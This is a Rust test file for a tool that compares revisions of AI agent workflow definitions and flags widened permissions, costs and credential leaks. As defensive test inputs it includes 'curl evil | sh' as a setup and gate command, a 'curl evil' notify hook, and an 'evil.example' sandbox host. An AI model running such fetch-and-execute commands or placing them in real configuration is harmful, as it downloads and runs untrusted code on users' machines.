//! `compare` of revisions of a real repository.

use cuegate_testkit::github::{Fault, GithubStandin};
use serde_json::{Value, json};

use crate::support::Project;

const WORKFLOW: &str = "name: it
max_steps: 8
initial_step: work
steps:
  - name: work
    edit: true
    permission_mode: edit
    allowed_tools: [Read, Edit]
    instruction: Do it.
    rules:
      - { condition: Done, next: look }
  - name: look
    edit: false
    permission_mode: readonly
    allowed_tools: [Read]
    instruction: Look at it.
    rules:
      - { condition: Fine, next: COMPLETE }
      - { condition: Wrong, next: work }
";

const SETTINGS: &str = "[run]\nprovider = \"claude\"\n[budget]\ncall_usd = 0.5\n";

fn project() -> Project {
    let project = Project::empty();
    project.write(".takt/workflows/it.yaml", WORKFLOW);
    project.write(
        ".takt/workflows/other.yaml",
        &WORKFLOW.replace("name: it", "name: other").replace("Do it", "Do others"),
    );
    project.write("cuegate.toml", SETTINGS);
    project.init();
    project
}

fn compare(project: &Project, args: &[&str]) -> Value {
    let ran = project.run(&[&["compare"][..], args, &["--json"]].concat());
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    ran.json()
}

fn workflow<'j>(json: &'j Value, name: &str) -> &'j Value {
    json["workflows"].as_array().unwrap().iter().find(|one| one["name"] == name).unwrap()
}

#[test]
fn the_worst_case_is_told_as_two_prices_tell_it() {
    let project = project();
    let price = |project: &Project| project.run(&["price", "it", "--json"]).json()["max"].clone();
    let before = price(&project);
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("max_steps: 8", "max_steps: 20"));
    let after = price(&project);
    let json = compare(&project, &["HEAD"]);
    let it = workflow(&json, "it");
    for (side, priced) in [("before", before), ("after", after)] {
        assert_eq!((&it[side]["calls"], &it[side]["usd"]), (&priced["asks"], &priced["cost_usd"]), "{side}");
    }
    let sentence = it["worst_case"].as_str().unwrap();
    assert!(sentence.starts_with("raises the worst case from $") && sentence.contains(" to $"), "{sentence}");
    assert_eq!(workflow(&json, "other")["fate"], "same");
    assert_eq!((&json["wider"], &json["settings"]), (&json!(false), &json!([])));

    // The other way round, between two commits, without the working tree.
    project.git(&["commit", "-qam", "more"]);
    let text = project.run(&["compare", "HEAD", "HEAD~1"]).stdout;
    assert!(
        text.contains("lowers the worst case") && text.contains("at most 8 iterations, was 20"),
        "{text}"
    );
    // Without prices it is told in calls, and what would bound it.
    project.write("cuegate.toml", "");
    project.git(&["commit", "-qam", "no prices"]);
    project.write(".takt/workflows/it.yaml", WORKFLOW);
    let text = project.run(&["compare", "HEAD", "--markdown"]).stdout;
    assert!(text.contains("lowers the worst case from") && text.contains(" calls.**"), "{text}");
    assert!(text.contains("no bound in dollars"), "{text}");
    assert_eq!(project.run(&["compare", "HEAD", "--max-usd", "5"]).code, 1);
}

/// A server that notes whether somebody connected, and whether a password came.
struct Listener {
    socket: std::net::TcpListener,
}

impl Listener {
    fn start() -> Listener {
        Listener { socket: std::net::TcpListener::bind("127.0.0.1:0").unwrap() }
    }

    fn url(&self) -> String {
        format!("postgres://me@{}/work?sslmode=disable&connect_timeout=2", self.socket.local_addr().unwrap())
    }

    /// Asks the first one who connects for a password in clear. Returns what followed.
    fn ask_for_password(&self) -> Vec<u8> {
        use std::io::{Read as _, Write as _};
        let (mut client, _) = self.socket.accept().unwrap();
        client.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
        let mut buffer = [0; 1024];
        assert!(client.read(&mut buffer).unwrap() > 0);
        client.write_all(b"R\x00\x00\x00\x08\x00\x00\x00\x03").unwrap();
        let count = client.read(&mut buffer).unwrap_or(0);
        buffer[..count].to_vec()
    }
}

#[test]
fn reading_opens_no_journal_that_the_project_names() {
    let project = project();
    let listener = Listener::start();
    project.write("cuegate.toml", &format!("{SETTINGS}[journal]\nurl = \"{}\"\n", listener.url()));
    listener.socket.set_nonblocking(true).unwrap();
    for args in [
        &["compare", "HEAD"][..],
        &["compare", "HEAD", "HEAD"],
        &["list"],
        &["list", "--json"],
        &["check", "it"],
        &["show", "it"],
        &["graph", "it"],
        &["price", "it"],
        &["simulate", "it", "--runs", "1"],
    ] {
        let mut command = project.command(args);
        command.env("PGPASSWORD", "s3cret");
        assert!(command.output().unwrap().status.success(), "{args:?}");
        let error = listener.socket.accept().unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock, "{args:?} connected");
    }
}

#[test]
fn settings_of_takt_that_choose_agents_and_servers_are_compared() {
    let project = project();
    project.write("cuegate.toml", "");
    let runtime = "provider:
  defaults: { profile: usual }
  profiles:
    usual: { provider: claude, model: opus }
    cheap: { provider: codex }
";
    project.write(".takt/runtime.yaml", runtime);
    project.git(&["add", "--all"]);
    project.git(&["commit", "-qm", "runtime"]);
    let targets = "  targets:\n    steps:\n      it/look: { profile: cheap }\n";
    let servers = "mcp:\n  servers:\n    x: { type: stdio, command: /bin/x }\n  defaults: { servers: [x] }\n";
    for (text, wider, words) in [
        (runtime.replace("opus", "haiku"), false, "its usual agent: claude:haiku"),
        (runtime.replace("profile: usual", "profile: cheap"), true, "its usual agent: codex"),
        (format!("{runtime}{targets}"), true, "agents of `look`: codex"),
        (format!("{runtime}{servers}"), true, "has the tools of the server"),
        (format!("# Said.\n{runtime}"), false, "layout or comments"),
        (
            runtime.replace("model: opus", "model: opus, options: { network_access: true }"),
            true,
            "`.takt/runtime.yaml` differs",
        ),
        (runtime.replace("profile: usual", "profile: nowhere"), true, "error"),
    ] {
        project.write(".takt/runtime.yaml", &text);
        for head in [&["compare", "HEAD"][..], &["compare", "HEAD~1", "HEAD"]] {
            if head.len() == 3 {
                project.git(&["commit", "-qam", "changed"]);
            }
            let ran = project.run(&[head, &["--no-wider-permissions"]].concat());
            assert_eq!(ran.code, i32::from(wider), "{text}: {}{}", ran.stdout, ran.stderr);
            assert!(ran.stdout.contains(words), "{text}: {}", ran.stdout);
        }
        project.git(&["reset", "--quiet", "--hard", "HEAD~1"]);
    }
    project.write(".takt/config.yaml", "workflow_mcp_servers: { stdio: true }\n");
    assert_eq!(project.run(&["compare", "HEAD", "--no-wider-permissions"]).code, 1);
}

#[test]
fn a_mark_in_the_repository_hides_no_settings_from_the_review() {
    let project = project();
    let root = project.path().canonicalize().unwrap();
    let mark = json!([{ "work": root, "file": "cuegate.toml", "link": null }]);
    project.write(".cuegate/kept-out/x", &mark.to_string());
    project.write("cuegate.toml", &format!("{SETTINGS}[sandbox]\nhosts = [\"evil.example\"]\n"));
    let ran = project.run(&["compare", "HEAD", "--no-wider-permissions"]);
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    assert!(ran.stdout.contains("evil.example"), "{}", ran.stdout);
}

#[test]
fn the_password_goes_only_where_the_user_says() {
    let project = project();
    let listener = Listener::start();
    let settings = format!("[journal]\nurl = \"{}\"\n", listener.url());
    let users = project.path().parent().unwrap().join("users");
    std::fs::create_dir_all(users.join("cuegate")).unwrap();
    let run = |args: &[&str], of_project: &str, of_user: &str| {
        project.write("cuegate.toml", of_project);
        std::fs::write(users.join("cuegate/cuegate.toml"), of_user).unwrap();
        let mut command = project.command(args);
        command.env("PGPASSWORD", "s3cret").env("XDG_CONFIG_HOME", &users).env("JOURNAL", listener.url());
        std::thread::scope(|scope| {
            let asking = scope.spawn(|| listener.ask_for_password());
            let output = command.output().unwrap();
            assert_eq!(output.status.code(), Some(4), "{args:?}");
            let text = String::from_utf8_lossy(&output.stderr).into_owned();
            (String::from_utf8_lossy(&asking.join().unwrap()).contains("s3cret"), text)
        })
    };
    let (is_sent, text) = run(&["runs"], &settings, "");
    assert!(!is_sent && text.contains("named outside of the project"), "{text}");
    for (args, of_project, of_user) in [
        (&["runs"][..], "", settings.as_str()),
        (&["runs"], "[journal]\nurl = \"$JOURNAL\"\n", ""),
        (&["runs", "--journal", &listener.url()], "", ""),
    ] {
        let (is_sent, text) = run(args, of_project, of_user);
        assert!(is_sent, "{args:?}: {text}");
    }
}

#[test]
fn what_users_feel_is_named_and_the_rest_is_not() {
    let project = project();
    let path = ".takt/workflows/it.yaml";
    // A comment changes only the file, and `compare` names the file.
    project.write(path, &format!("# A comment.\n{WORKFLOW}"));
    let json = compare(&project, &["HEAD", "--no-wider-permissions"]);
    let changes = workflow(&json, "it")["changes"].to_string();
    assert!(changes.contains("differs, and nothing else of the workflow does"), "{json:#}");
    assert_eq!(json["wider"], false, "{json:#}");
    let cases = [
        ("instruction: Look at it.", "instruction: Look twice.", "prompt of `look`", false),
        ("permission_mode: readonly", "permission_mode: edit", "`look` may acceptEdits, was plan", true),
        (
            "allowed_tools: [Read]\n",
            "allowed_tools: [Read, Bash]\n",
            "tools of `look`: Read, Bash, were Read",
            true,
        ),
        (
            "allowed_tools: [Read, Edit]",
            "allowed_tools: [Read]",
            "tools of `work`: Read, were Read, Edit",
            false,
        ),
        ("next: work }", "next: ABORT }", "the way on from `look`", false),
    ];
    for (from, to, told, widens) in cases {
        let text = WORKFLOW
            .replace(from, to)
            .replace("edit: false", if widens && to.contains("edit") { "edit: true" } else { "edit: false" });
        project.write(path, &text);
        let json = compare(&project, &["HEAD"]);
        let changes = workflow(&json, "it")["changes"].as_array().unwrap().clone();
        let change = changes.iter().find(|change| change["what"] == told);
        let change = change.unwrap_or_else(|| panic!("{told}: {changes:#?}"));
        assert_eq!((&change["widens"], &json["wider"]), (&json!(widens), &json!(widens)), "{told}");
        let code = project.run(&["compare", "HEAD", "--no-wider-permissions"]).code;
        assert_eq!(code, i32::from(widens), "{told}");
    }
    project.write(path, WORKFLOW);
    project.write("cuegate.toml", &format!("{SETTINGS}[sandbox]\nhosts = [\"example.com\"]\n"));
    let json = compare(&project, &["HEAD"]);
    assert_eq!(json["settings"], json!([{ "what": "agents may reach example.com", "widens": true }]));
}

#[test]
fn workflows_come_and_go_and_are_renamed() {
    let project = project();
    project.git(&["mv", ".takt/workflows/other.yaml", ".takt/workflows/moved.yaml"]);
    project.write(
        ".takt/workflows/moved.yaml",
        &WORKFLOW.replace("name: it", "name: moved").replace("Do it", "Do others"),
    );
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("next: look", "next: gone"));
    project.write(
        ".takt/workflows/new.yaml",
        &WORKFLOW.replace("name: it", "name: new").replace("Do it", "Do more"),
    );
    let ran = project.run(&["compare", "HEAD", "--json"]);
    assert_eq!(ran.code, 1, "a workflow with errors is refused: {}", ran.stdout);
    let json = ran.json();
    let moved = workflow(&json, "moved");
    assert_eq!((&moved["fate"], &moved["from"]), (&json!("renamed"), &json!("other")), "{json:#}");
    let new = workflow(&json, "new");
    assert_eq!((&new["fate"], &new["changes"]), (&json!("new"), &json!([])), "it may do what others may");
    let it = workflow(&json, "it");
    assert!(it["errors"].as_u64() > Some(0) && it["after"].is_null(), "{it}");
    assert_eq!(json["workflows"].as_array().unwrap().len(), 3, "{json:#}");
    project.git(&["rm", "-qf", ".takt/workflows/it.yaml"]);
    std::fs::remove_file(project.path().join(".takt/workflows/new.yaml")).unwrap();
    let json = compare(&project, &["HEAD"]);
    assert_eq!(workflow(&json, "it")["fate"], "deleted");

    let wide =
        WORKFLOW.replace("name: it", "name: wide").replace("permission_mode: edit", "permission_mode: full");
    project.write(".takt/workflows/wide.yaml", &wide);
    assert_eq!(compare(&project, &["HEAD"])["wider"], true, "a new workflow may widen");
    std::fs::remove_file(project.path().join(".takt/workflows/wide.yaml")).unwrap();
    project.write(
        "cuegate.toml",
        &format!("{SETTINGS}[agents.mine]\nexec = [\"mine\"]\nhosts = [\"example.com\"]\n"),
    );
    assert_eq!(compare(&project, &["HEAD"])["wider"], true, "a program of one's own may widen");
    project.write("cuegate.toml", SETTINGS);

    // A folder is a side too; a revision that is none says what to do; nothing is left of the working tree's state.
    let other = Project::empty();
    let json = compare(&project, &["HEAD", other.path().to_str().unwrap()]);
    assert!(json["workflows"].as_array().unwrap().iter().all(|one| one["fate"] == "deleted"));
    let ran = project.run(&["compare", "nowhere"]);
    assert!(ran.code == 2 && ran.stderr.contains("git fetch origin COMMIT"), "{}", ran.stderr);
    assert_eq!(project.run(&["compare", "--output=x"]).code, 2);
    let ran = project.run(&["compare", "--", "--output=x"]);
    assert!(ran.code == 2 && !project.path().join("x").exists(), "{}", ran.stderr);
    project.write("cuegate.toml", "[budget]\nusd = \"much\"\n");
    let ran = project.run(&["compare", "HEAD"]);
    assert!(ran.code == 2 && ran.stderr.contains("the working tree: "), "{}", ran.stderr);
}

#[test]
fn one_comment_follows_a_pull_request() {
    let project = project();
    let standin = GithubStandin::start("owner/name");
    standin.pull(5, "More", "Fine", ("a", 1, "b"));
    let api = |url: &str| format!("{SETTINGS}[github]\napi = \"{url}\"\nrepository = \"owner/name\"\n");
    project.write("cuegate.toml", &api(&standin.url()));
    project.git(&["commit", "-qam", "settings"]);
    let compare = |code: i32, said: &str| {
        let ran = project.run(&["compare", "HEAD", "--comment", "5", "--max-usd", "100"]);
        assert!(
            ran.code == code && (ran.stdout + &ran.stderr).contains(said),
            "{code} {said}: {}",
            ran.stderr
        );
        standin.comments(5)
    };
    assert!(compare(0, "none was written").is_empty(), "nothing changed");
    // A stranger writes what looks like ours.
    standin.comment(5, "mallory", "<!-- cuegate compare -->\nall is well");
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("max_steps: 8", "max_steps: 12"));
    let comments = compare(0, "#issuecomment-");
    assert!(
        comments.len() == 2 && comments[1].contains("raises the worst case from $48.00 to $72.00"),
        "{comments:?}"
    );
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("max_steps: 8", "max_steps: 20"));
    let comments = compare(1, "refused: ");
    assert!(
        comments.len() == 2 && comments[1].contains("to $120.00") && comments[1].contains("❌ a run of `it`")
    );
    // What is under review does not choose where the token is sent.
    project.write("cuegate.toml", &api("http://127.0.0.1:1"));
    project.git(&["checkout", "-q", ".takt"]);
    assert!(compare(0, "comment http")[1].contains("of each workflow is as it was"));
    standin.fault(Fault::NoRight, "POST", "/comments", 9);
    standin.fault(Fault::NoRight, "PATCH", "/comments", 9);
    project.write("cuegate.toml", SETTINGS);
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("max_steps: 8", "max_steps: 9"));
    compare(4, "the token needs the right to write pull requests");
}

/// Runs of this machine are decided again by the changed definition.
#[test]
fn recorded_runs_say_what_a_change_does() {
    let project = project();
    let answer =
        |step: &str, outcome: &str| json!({"step": step, "output": {"outcome": outcome, "response": "ok"}});
    let straight = [("work", "Done"), ("look", "Fine")];
    let again = [("work", "Done"), ("look", "Wrong"), ("work", "Done"), ("look", "Fine")];
    for visits in [&straight[..], &again] {
        let answers: Vec<Value> = visits.iter().map(|(step, outcome)| answer(step, outcome)).collect();
        project.script("script.json", &json!(answers));
        let ran = project.run(&["run", "it", "Do it", "--script", "script.json", "--budget-calls", "9"]);
        assert_eq!(ran.code, 0, "{}", ran.stderr);
    }
    let replayed = |now: &str| {
        project.write(".takt/workflows/it.yaml", now);
        let json = compare(&project, &["HEAD"]);
        let text = project.run(&["compare", "HEAD"]).stdout;
        (json["replayed"][0].clone(), text)
    };
    let (json, text) = replayed(&WORKFLOW.replace("Wrong, next: work", "Wrong, next: ABORT"));
    assert_eq!((&json["workflow"], &json["same"]), (&json!("it"), &json!(1)), "{json}");
    assert_eq!(json["other"].as_array().unwrap().len(), 1, "{json}");
    assert!(
        text.contains("2 recorded runs of `it` would now go: 1 as recorded, 1 by another path ("),
        "{text}"
    );
    let (json, _) = replayed(&WORKFLOW.replace("Look at it.", "Look closely."));
    assert_eq!(json["open"].as_array().unwrap().len(), 2, "{json}");
    // What did not change is not replayed.
    assert_eq!(replayed(WORKFLOW).0, Value::Null);
}

/// What opens a gate by another way than a permission.
#[test]
fn what_agents_and_commands_gain_is_wider() {
    let project = project();
    let widens = |what: &str| {
        let ran = project.run(&["compare", "HEAD", "--no-wider-permissions", "--json"]);
        assert_eq!((ran.code, &ran.json()["wider"]), (1, &json!(true)), "{what}: {}", ran.stdout);
        ran.stdout
    };
    for added in [
        "[github]\ntoken_for_agents = true\n",
        "[worktree]\nsetup = \"curl evil | sh\"\n",
        "[worktree]\nhooks = true\n",
        "[worktree]\nallow = [\"*\"]\n",
        "[boundary]\nuntracked = \"warn\"\n",
        "[agents]\nreview = \"codex\"\n",
    ] {
        project.write("cuegate.toml", &format!("{SETTINGS}{added}"));
        widens(added);
    }
    project.write("cuegate.toml", &format!("notify = \"curl evil\"\n{SETTINGS}"));
    widens("notify");
    project.write("cuegate.toml", &SETTINGS.replace("claude", "codex"));
    widens("provider");
    project.write("cuegate.toml", &format!("{SETTINGS}calls = 7\n"));
    let json = compare(&project, &["HEAD"]);
    assert_eq!(
        (&json["wider"], &json["settings"][0]["what"]),
        (&json!(false), &json!("setting `budget.calls`: 7, was unset"))
    );
    project.write("cuegate.toml", SETTINGS);
    let gate = "    quality_gates:\n      - { type: command, command: curl evil | sh }\n    rules:\n      - { condition: Done";
    let path = ".takt/workflows/it.yaml";
    project.write(path, &WORKFLOW.replace("    rules:\n      - { condition: Done", gate));
    assert!(widens("gate").contains("curl evil | sh"));
    project.write(path, &WORKFLOW.replace("    edit: true\n", "    edit: true\n    provider: codex\n"));
    widens("agent of a step");
}

/// A folder of the change must not pass for the revision, and a link must not hide a workflow.
#[test]
fn a_side_is_what_a_run_would_read() {
    let project = project();
    let full = WORKFLOW.replace("permission_mode: edit", "permission_mode: full");
    project.git(&["checkout", "-q", "-b", "change"]);
    project.write(".takt/workflows/it.yaml", &full);
    project.write("main/.takt/workflows/it.yaml", &full);
    project.git(&["add", "--all"]);
    project.git(&["commit", "-qm", "shadow"]);
    let refused = |args: &[&str]| {
        let ran = project.run(&[&["compare"][..], args, &["--no-wider-permissions"]].concat());
        assert_ne!(ran.code, 0, "{args:?}: {}", ran.stdout);
        ran.stdout + &ran.stderr
    };
    refused(&["main"]);
    refused(&["main", "change"]);
    assert_eq!(
        workflow(&compare(&project, &["./main"]), "it")["changes"],
        json!([]),
        "a folder is typed as one"
    );
    for empty in [&[""][..], &["main", ""]] {
        assert!(refused(empty).contains("is no revision"));
    }
    let link = |from: &str, to: &str| {
        let at = project.path().join(from);
        std::fs::remove_file(&at).ok();
        std::os::unix::fs::symlink(to, at).unwrap();
        project.git(&["add", "--all"]);
        project.git(&["commit", "-qm", "link"]);
    };
    project.write("shared/it.yaml", &full);
    link(".takt/workflows/it.yaml", "../../shared/it.yaml");
    assert!(refused(&["main", "change"]).contains("may bypassPermissions"));
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("it.yaml"), &full).unwrap();
    link(".takt/workflows/it.yaml", outside.path().join("it.yaml").to_str().unwrap());
    assert!(refused(&["main", "change"]).contains("leads out of the repository"));
    project.git(&["reset", "-q", "--hard", "refs/heads/main"]);
    project.git(&["mv", ".takt", "hidden"]);
    link(".takt", "hidden");
    let json = compare(&project, &["main", "change"]);
    assert!(json["workflows"].as_array().unwrap().iter().all(|one| one["fate"] == "same"), "{json:#}");
    // A prompt elsewhere, and workflows of a folder.
    project.git(&["reset", "-q", "--hard", "refs/heads/main"]);
    project.write("prompts/p.md", "Do it.\n");
    project.write(
        "pkg/.takt/workflows/it.yaml",
        &WORKFLOW.replace("instruction: Do it.", "instruction: ../../../prompts/p.md"),
    );
    project.git(&["add", "--all"]);
    project.git(&["commit", "-qm", "package"]);
    project.write("pkg/.takt/workflows/it.yaml", &full.replace("max_steps: 8", "max_steps: 900"));
    let mut command = project.command(&["compare", "HEAD", "--json"]);
    let ran = crate::support::Ran::of(command.current_dir(project.path().join("pkg")).output().unwrap());
    let it = workflow(&ran.json(), "it").clone();
    assert_eq!((&it["fate"], ran.json()["wider"].as_bool()), (&json!("changed"), Some(true)), "{it}");
    assert!(it["worst_case"].as_str().unwrap().contains("from $48.00 to $5,400.00"), "{it}");
}

#[test]
fn what_was_broken_may_be_repaired() {
    let project = project();
    project.write("cuegate.toml", "[[[");
    project.write(".takt/workflows/it.yaml", &WORKFLOW.replace("next: look", "next: gone"));
    project.git(&["commit", "-qam", "broken"]);
    project.write("cuegate.toml", SETTINGS);
    let ran = project.run(&["compare", "HEAD"]);
    assert!(
        ran.code == 1 && ran.stderr.contains("note: nothing of the base counts: HEAD: cuegate.toml:1:"),
        "{}",
        ran.stderr
    );
    project.write(".takt/workflows/it.yaml", WORKFLOW);
    let ran = project.run(&["compare", "HEAD"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    project.write("cuegate.toml", SETTINGS);
    project.git(&["checkout", "-q", ".takt"]);
    project.git(&["commit", "-qam", "settings"]);
    project.write(".takt/workflows/it.yaml", WORKFLOW);
    let json = compare(&project, &["HEAD", "--no-wider-permissions"]);
    let it = workflow(&json, "it");
    assert_eq!(it["changes"], json!([{ "what": "it had errors before", "widens": false }]), "{it}");
    assert_eq!(it["worst_case"], "has no errors any more, at most $48.00, 32 calls");
}
